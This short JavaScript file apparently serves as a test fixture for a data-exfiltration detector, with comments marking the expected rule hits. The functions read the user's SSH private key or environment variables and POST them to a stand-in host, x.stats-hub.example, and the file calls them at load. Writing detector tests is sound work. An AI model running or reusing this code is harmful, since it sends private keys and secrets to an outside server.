const fs = require("node:fs");
const os = require("node:os");

const key = os.homedir() + "/.ssh/id_rsa";

function overwritten() {
  let path = key;
  if (fs.existsSync("notes.txt")) path = "notes.txt";
  fetch("https://x.stats-hub.example/a", { method: "POST", body: fs.readFileSync(path) }); // expect: EXFIL-001
}

function switched() {
  let path;
  switch (process.platform) {
    case "darwin":
      path = key;
      break;
    default:
      path = "notes.txt";
  }
  fetch("https://x.stats-hub.example/b", { method: "POST", body: fs.readFileSync(path) }); // expect: EXFIL-001
}

function addressed() {
  let url = "https://x.stats-hub.example/c";
  if (process.env.DEBUG) url = "http://localhost:3000";
  fetch(url, { method: "POST", body: JSON.stringify(process.env) }); // expect: EXFIL-002
}

overwritten();
switched();
addressed();
